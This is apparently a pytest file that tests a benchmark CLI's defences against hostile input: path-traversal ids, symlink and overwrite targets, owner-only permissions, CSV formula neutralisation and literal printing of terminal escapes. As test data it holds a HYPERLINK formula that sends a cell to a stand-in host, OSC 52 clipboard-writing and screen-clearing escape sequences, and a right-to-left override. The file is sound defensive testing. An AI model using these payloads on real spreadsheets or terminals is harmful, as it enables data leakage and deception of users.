"""What the tool writes and prints, against hostile names and texts (issue 10, classes 1-5):

1. ids that would become paths are refused in models.toml, and names read from a database are made safe
   before they name a file;
2. an output never overwrites an input (the database, its -wal/-shm), never follows a symlink, never writes
   into a missing folder, and is replaced atomically (a failed write leaves the old file);
3. everything written is owner-only under any umask;
4. CSV cells a spreadsheet would execute are neutralised, JSONL stays verbatim;
5. untrusted text prints literally: no rich markup, no terminal escapes.
"""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import stat
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from rich.console import Console

from medbench_local.cli.export import FORMULA_STARTS, neutralise_cell
from medbench_local.cli.safe_text import literal, plain
from medbench_local.config import ARM_ID_PATTERN, ID_PATTERN, load_config
from medbench_local.errors import ConfigError
from medbench_local.gates.files import database_files, safe_component
from medbench_local.store import open_database

from .conftest import REPO, invoke
from .synthetic import Side, build_pair_db

# ---------------------------------------------------------------------------------------------- 1. ids

BAD_IDS = {
    "parent folder": "../a",
    "hidden file": ".hidden",
    "slash": "a/b",
    "backslash": "a\\b",
    "NUL": "a\x00b",
    "trailing newline": "abc\n",
    "escape sequence": "a\x1b[2Jb",
    "space": "a b",
    "non-ASCII letter": "modèle",
    "too long": "a" * 65,
    "empty": "",
    "dot dot only": "..",
    "leading dash": "-rf",
    "markup": "[bold]x",
}


def _toml_key(value: str) -> str:
    return json.dumps(value)  # a TOML basic string is JSON-compatible for these characters


@pytest.mark.parametrize("kind", ["model", "pair"])
@pytest.mark.parametrize("name", list(BAD_IDS), ids=list(BAD_IDS))
def test_ids_that_could_become_paths_are_refused(kind: str, name: str, tmp_path: Path) -> None:
    bad = BAD_IDS[name]
    models = '[models.a]\nrole = "biomedical"\npath = "a.gguf"\n[models.b]\nrole = "general"\npath = "b.gguf"\n'
    if kind == "model":
        text = models + f'[models.{_toml_key(bad)}]\nrole = "general"\npath = "c.gguf"\n'
    else:
        text = models + f'[pairs.{_toml_key(bad)}]\nbiomedical = "a"\ngeneral = "b"\n'
    config = tmp_path / "models.toml"
    config.write_text(text, encoding="utf-8")
    with pytest.raises(ConfigError, match=f"invalid {kind} (id|name)") as raised:
        load_config(config)
    message = str(raised.value)
    assert "\n" not in message and "\x00" not in message and "\x1b" not in message
    assert message.startswith(f"{config}:")


def test_every_shipped_id_is_valid() -> None:
    config = load_config(REPO / "models.toml")
    for name in [*config.pairs, *(mid for mid, spec in config.models.items() if spec.retrieval is None)]:
        assert ID_PATTERN.fullmatch(name), name
    for name in (mid for mid, spec in config.models.items() if spec.retrieval is not None):  # arms: model+index
        assert ARM_ID_PATTERN.fullmatch(name), name


@settings(max_examples=300, deadline=None)
@given(st.text(min_size=0, max_size=80))
def test_an_accepted_id_is_a_safe_file_name(name: str) -> None:
    accepted = ID_PATTERN.fullmatch(name) is not None
    if accepted:
        assert "/" not in name and "\\" not in name and not name.startswith(".") and len(name) <= 64
        assert name.isascii() and name.isprintable() and safe_component(name) == name


@settings(max_examples=300, deadline=None)
@given(st.text(min_size=0, max_size=200))
def test_a_stored_name_becomes_one_safe_path_component(name: str) -> None:
    component = safe_component(name)
    assert ID_PATTERN.fullmatch(component)
    assert component not in (".", "..") and "/" not in component and "\\" not in component
    if not ID_PATTERN.fullmatch(name):
        assert component != safe_component(name + "x")  # the hash keeps different names apart


def _files_under(folder: Path) -> set[Path]:
    return {p for p in folder.rglob("*")}


def test_a_crafted_database_cannot_write_outside_the_report_folder(tmp_path: Path) -> None:
    work = tmp_path / "deep" / "work"
    work.mkdir(parents=True)
    db = build_pair_db(work / "crafted.db", "../../x",
                       Side("evil/../../model", [("correct", "A"), ("wrong", "B"), ("correct", "A")]),
                       Side("gen\\..\\m", [("wrong", "B"), ("correct", "A"), ("wrong", "B")]))
    before = _files_under(tmp_path)
    result = invoke("report", "--db", str(db), "-o", str(work / "r.html"), "--resamples", "200")
    assert "Traceback" not in result.output
    created = _files_under(tmp_path) - before - set(database_files(db))  # a WAL reader may leave -wal/-shm
    plots = work / "r_plots"
    assert created and all(p == work / "r.html" or p == plots or p.parent == plots for p in created), created
    assert len([p for p in created if p.suffix == ".png"]) == 3
    assert not (tmp_path / "x-forest.png").exists()


# ---------------------------------------------------------------------------------------------- 2. targets

@pytest.fixture
def small_db(tmp_path: Path) -> Path:
    return build_pair_db(tmp_path / "results.db", "demo", Side("bio", [("correct", "A"), ("wrong", "B")]),
                         Side("gen", [("wrong", "B"), ("correct", "A")]))


def _hard_link(db: Path) -> Path:
    link = db.with_name("alias.html")
    os.link(db, link)
    return link


def _symlink_to_new_file(db: Path) -> Path:
    link = db.with_name("link.csv")
    link.symlink_to(db.with_name("elsewhere.csv"))
    return link


TARGETS: dict[str, tuple[Callable[[Path], Path], str]] = {
    "the database itself": (lambda db: db, "is the results database"),
    "the database through ..": (lambda db: db.parent / "sub" / ".." / db.name, "is the results database"),
    "a hard link to the database": (_hard_link, "is the results database"),
    "the -wal file": (lambda db: db.with_name(db.name + "-wal"), "is the results database"),
    "the -shm file": (lambda db: db.with_name(db.name + "-shm"), "is the results database"),
    "a symbolic link": (_symlink_to_new_file, "is a symbolic link"),
    "a symbolic link to the database": (lambda db: (db.parent / "db-link").symlink_to(db) or db.parent / "db-link",
                                        "is a symbolic link"),
    "a missing folder": (lambda db: db.parent / "no-such-folder" / "out.csv", "does not exist"),
}  # a directory as target is refused by click itself (a usage error)


@pytest.mark.parametrize("command", ["report", "export"])
@pytest.mark.parametrize("target", list(TARGETS), ids=list(TARGETS))
def test_outputs_never_overwrite_inputs_or_follow_links(command: str, target: str, small_db: Path) -> None:
    (small_db.parent / "sub").mkdir()
    make, expected = TARGETS[target]
    out = make(small_db)
    before = small_db.read_bytes()
    listing = _files_under(small_db.parent)
    result = invoke(command, "--db", str(small_db), "-o", str(out), expect=1)
    errors = [line for line in result.output.splitlines() if line.startswith("Error:")]
    assert len(errors) == 1 and expected in errors[0], result.output
    assert "Traceback" not in result.output
    assert small_db.read_bytes() == before
    assert _files_under(small_db.parent) - set(database_files(small_db)) == listing - set(database_files(small_db))
    assert not (small_db.parent / "elsewhere.csv").exists()


def test_a_failed_write_leaves_the_previous_file_whole(small_db: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    out = small_db.parent / "items.csv"
    out.write_text("previous export\n")
    from medbench_local.cli import export

    def full_disk(rows: object, fmt: str, handle: io.TextIOBase) -> None:
        handle.write("half a row,")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(export, "_write", full_disk)
    result = invoke("export", "--db", str(small_db), "-o", str(out), expect=1)
    assert "No space left on device" in result.output and "Traceback" not in result.output
    assert out.read_text() == "previous export\n"
    assert sorted(p.name for p in small_db.parent.iterdir() if "items" in p.name) == ["items.csv"]  # no temp file


# ---------------------------------------------------------------------------------------------- 3. owner-only

def _mode(path: Path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


@pytest.fixture(params=[0o022, 0o000], ids=["umask-022", "umask-000"])
def umask(request: pytest.FixtureRequest) -> int:
    old = os.umask(request.param)
    yield request.param
    os.umask(old)


def test_everything_written_is_owner_only_under_any_umask(umask: int, tmp_path: Path) -> None:
    fresh = tmp_path / "new-folder" / "fresh.db"
    open_database(fresh).conn.close()
    assert _mode(fresh) == 0o600 and _mode(fresh.parent) == 0o700

    for name, content in (("empty.db", b""), ("loose.db", None)):  # pre-existing files opened for writing
        path = tmp_path / name
        if content is None:
            open_database(path).conn.close()
        else:
            path.write_bytes(content)
        os.chmod(path, 0o644)
        db = open_database(path)
        db.conn.execute("insert into pairs (name, biomedical, general) values ('p', 'a', 'b')")
        db.conn.commit()
        for file in (path, path.with_name(path.name + "-wal"), path.with_name(path.name + "-shm")):
            assert _mode(file) == 0o600, file  # the database and the WAL files SQLite created beside it
        db.conn.close()

    db = build_pair_db(tmp_path / "results.db", "demo", Side("bio", [("correct", "A"), ("wrong", "B")]),
                       Side("gen", [("wrong", "B"), ("correct", "A")]))
    export_file = tmp_path / "items.csv"
    export_file.write_text("old")
    os.chmod(export_file, 0o644)
    invoke("export", "--db", str(db), "-o", str(export_file))
    report = tmp_path / "report.html"
    plots = tmp_path / "report_plots"
    plots.mkdir()
    os.chmod(plots, 0o755)
    invoke("report", "--db", str(db), "-o", str(report), "--resamples", "200")
    assert _mode(export_file) == 0o600 and _mode(report) == 0o600 and _mode(plots) == 0o700
    assert sorted(_mode(p) for p in plots.iterdir()) == [0o600] * 3
    assert _mode(db) == 0o600


# ---------------------------------------------------------------------------------------------- 4. CSV

@settings(max_examples=500, deadline=None)
@given(st.text(max_size=40))
def test_no_csv_cell_starts_like_a_formula_and_nothing_is_lost(text: str) -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerow([neutralise_cell(text), "next"])
    (cell, _), = csv.reader(io.StringIO(buffer.getvalue(), newline=""))
    assert not cell.startswith(FORMULA_STARTS)
    assert cell == text or (cell == "'" + text and text.startswith(FORMULA_STARTS))


def test_export_neutralises_formulas_in_csv_and_keeps_jsonl_verbatim(tmp_path: Path) -> None:
    outputs = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
               "plain answer"]
    db = build_pair_db(tmp_path / "r.db", "demo", Side("bio", [("correct", o) for o in outputs]),
                       Side("gen", [("wrong", o) for o in outputs]))
    text = invoke("export", "--db", str(db), "--format", "csv").output
    cells = [row["output"] for row in csv.DictReader(io.StringIO(text, newline=""))]
    assert sorted(cells) == sorted(["'" + o if o != "plain answer" else o for o in outputs] * 2)
    exported = [json.loads(line)["output"] for line in invoke("export", "--db", str(db), "--format",
                                                              "jsonl").output.splitlines()]
    assert sorted(exported) == sorted(outputs * 2)
    assert "spreadsheet" in invoke("export", "--help").output


# ---------------------------------------------------------------------------------------------- 5. terminal

def _printed(markup: str) -> str:
    console = Console(file=io.StringIO(), record=True, width=200, emoji=False, highlight=False)
    console.print(markup, soft_wrap=True)
    return console.export_text()


@settings(max_examples=500, deadline=None)
@given(st.text(max_size=60))
def test_any_text_prints_literally_through_rich(text: str) -> None:
    shown = _printed(f"[dim]{literal(text)}[/dim] and [bold]{literal(text)}[/bold]")
    assert not any(ord(c) < 32 and c != "\n" or 0x7F <= ord(c) <= 0x9F for c in shown)
    assert shown.count("[") == 2 * text.count("[") and shown.count("]") == 2 * text.count("]")
    assert "".join(plain(text).split()) in "".join(shown.split())  # every visible character, in order


MARKUP_PRONE = st.text(alphabet=st.sampled_from(list("\\[]/#@ab x")), max_size=30)


@settings(max_examples=1500, deadline=None)
@given(MARKUP_PRONE | st.text(max_size=40))
def test_literal_text_reads_back_exactly_in_any_markup_context(text: str) -> None:
    """Backslashes and brackets are where rich markup bites: "\\[" lost its backslash, a trailing backslash
    escaped the closing tag after it, and two texts side by side could form a tag ("[/" + "@]"). Whatever the
    text and whatever follows it, what prints is the text itself."""
    expected = plain(text)
    for markup, shown_text in ((f"[dim]{literal(text)}[/dim] and [bold]{literal(text)}[/bold]",
                                f"{expected} and {expected}"),
                               (literal(text), expected), (literal(text) + literal(text), expected * 2)):
        assert "".join(_printed(markup).split()) == "".join(shown_text.split()), markup


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=60))
def test_plain_text_has_no_control_characters_left(text: str) -> None:
    for one_line in (False, True):
        shown = plain(text, one_line=one_line)
        allowed = "\t" if one_line else "\t\n"
        assert all(c in allowed or not (ord(c) < 32 or 0x7F <= ord(c) <= 0x9F) for c in shown)
        assert "\u202e" not in shown


HOSTILE_OUTPUTS = ["[/INST] B", "[bold]A[/bold] is it", "\x1b[2J\x1b]52;c;ZXZpbA==\x07 cleared?", "[a] ok\r",
                   "ends with a backslash \\", ":warning: emoji code", "\u202eevil"]


def test_show_compare_and_lists_print_hostile_text_literally(tmp_path: Path) -> None:
    db = build_pair_db(tmp_path / "r.db", "[red]pair", Side("bio[x]", [("correct", o) for o in HOSTILE_OUTPUTS]),
                       Side("gen\x1b[31m", [("wrong", "B")] * len(HOSTILE_OUTPUTS)),
                       item_ids=[f"id[{i}]\x1b[1m" for i in range(len(HOSTILE_OUTPUTS))],
                       payload_text="[/case] \x1b[5m blinking")
    shown = invoke("show", "--db", str(db), "--pair", "[red]pair", "--task", "jama", "--prompts").output
    for expected in ("[/INST] B", "[bold]A[/bold] is it", "\\x1b[2J\\x1b]52;c;ZXZpbA==\\x07", "[a] ok\\x0d",
                     "ends with a backslash \\", ":warning: emoji code", "\\u202eevil", "id[0]\\x1b[1m",
                     "[red]pair"):
        assert expected in shown, expected
    assert "\x1b" not in shown and "\u202e" not in shown
    items = invoke("show", "--db", str(db), "--pair", "[red]pair", "--task", "jama").output
    assert "[/case] \\x1b[5m blinking" in items and "\x1b" not in items
    compared = invoke("compare", "--db", str(db), "--resamples", "200").output
    assert "[red]pair" in compared and "bio[x]" in compared and "gen\\x1b[31m" in compared
    assert "\x1b" not in compared
    markdown = invoke("compare", "--db", str(db), "--resamples", "200", "--markdown").output
    assert "gen\\x1b[31m" in markdown and "\x1b" not in markdown
    with sqlite3.connect(db) as conn:  # a run recorded with a hostile command line and model id
        conn.execute("update runs set command = ?, settings = json_set(coalesce(settings, '{}'), '$.models', "
                     "json(?))", (json.dumps(["medbench-local", "run", "--task", "[bold]x\x1b[2J"]),
                                  json.dumps([{"id": "m\x1b]52;c;ZXZpbA==\x07", "role": "general"}])))
    conn.close()
    runs = invoke("runs", "--db", str(db)).output
    assert "\\x1b[2J" in runs and "m\\x1b]52" in runs and "\x1b" not in runs


def test_error_lines_show_file_content_escaped(tmp_path: Path) -> None:
    config = tmp_path / "models.toml"
    config.write_text('[models.m]\nrole = "general"\npath = "m.gguf"\n"col\\u001b[2Jour" = 1\n', encoding="utf-8")
    result = invoke("models", "list", "--config", str(config), expect=1)
    errors = [line for line in result.output.splitlines() if line.startswith("Error:")]
    assert len(errors) == 1 and "col\\x1b[2Jour" in errors[0] and "\x1b" not in result.output
